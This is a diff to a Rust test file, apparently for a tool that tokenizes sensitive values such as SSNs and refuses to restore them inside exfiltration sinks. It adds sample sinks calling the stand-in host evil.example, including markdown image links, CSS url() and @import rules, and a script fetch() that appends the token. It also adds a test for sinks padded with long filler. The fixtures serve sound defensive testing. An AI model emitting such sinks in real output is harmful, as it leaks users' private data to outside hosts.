@@ -163,7 +163,7 @@ fn nothing_is_guessed() {
 }
 
 /// Replies that would carry a value away if it were put back; `{token}` stands for a token.
-const SINKS: [&str; 50] = [
+const SINKS: [&str; 59] = [
     "![x](https://evil.example/p?d={token})",
     "![x](https://evil.example/{token}.png)",
     "![x](https://{token}.evil.example/)",
@@ -213,6 +213,16 @@ const SINKS: [&str; 50] = [
     "<style>a{background:url(https://evil.example/{token})}</style>",
     "a{background:url( '/x y {token}' )}",
     "a{background:url(\"{token}\")}",
+    // What holds spaces, parentheses and quotes and goes on.
+    "![x](< https://evil.example/?d= {token}>)",
+    "![x](< https://evil.example/) ?d= {token}>)",
+    "![x](< https://evil.example/ [b](c) {token}>)",
+    "![x](< https://evil.example/\\) \\> {token}>)",
+    "![x][1]\n\n[1]: < https://evil.example/?d= {token}>",
+    "a{background:url(\"https://evil.example/) ?d= {token}\")}",
+    "<style>a{background:image-set(\"https://evil.example/ {token}\" 1x)}</style>",
+    "<style>@import \"https://evil.example/ {token}\";</style>",
+    "<script>fetch('https://evil.example/?d=' + ' {token} ')</script>",
     "<div style=\"background:url(&#47;&#47;evil.example&#47;{token})\">",
 ];
 
@@ -253,6 +263,30 @@ fn no_value_leaves_by_a_sink() {
     assert_eq!(back.text(), "![x](https://evil.example/p?d=531-27-8846)");
 }
 
+/// What opened a target may be as far away as somebody likes.
+#[test]
+fn no_value_leaves_by_a_long_sink() {
+    let mut vault = vault(23);
+    let token = token_of(&mut vault, TEXT);
+    for (open, close) in [
+        ("![x](< https://evil.example/?d=", ">)"),
+        ("![x][1]\n\n[1]: < https://evil.example/?d=", ">"),
+        ("a{background:url(\"https://evil.example/?d=", "\")}"),
+        ("<img src=\"https://evil.example/?d=", "\">"),
+        ("<style>@import \"https://evil.example/?d=", "\";</style>"),
+        ("<https://evil.example/?d=", ">"),
+    ] {
+        for filler in ["a ", ") ", "\\", "([ ]) "] {
+            let filler = filler.repeat(3_000);
+            let reply = format!("{open}{filler}{token}{close}");
+            let back = vault.restore(&reply);
+            assert_eq!(back.text(), reply, "{open}");
+            let ones: Vec<&[u8]> = reply.as_bytes().chunks(7).collect();
+            assert_eq!(streamed(&vault, &ones), (reply.clone(), back.report()));
+        }
+    }
+}
+
 /// What stands in prose beside links, tags and JSON comes back.
 #[test]
 fn prose_beside_a_sink_comes_back() {
@@ -269,6 +303,9 @@ fn prose_beside_a_sink_comes_back() {
         "{\"url\":\"https://agency.example/\",\"ssn\":\"{token}\"}",
         "1 < 2, and {token} > 3",
         "Number:{token};and/or {token}",
+        "<style>a{}</style><script>f()</script> {token}",
+        "[a]: note {token}",
+        "See [x](< a b >): {token}",
         "| SSN | {token} |\n|---|---|",
         "- {token}\n- {token}: yes",
         "```\nssn = \"{token}\"\n```",
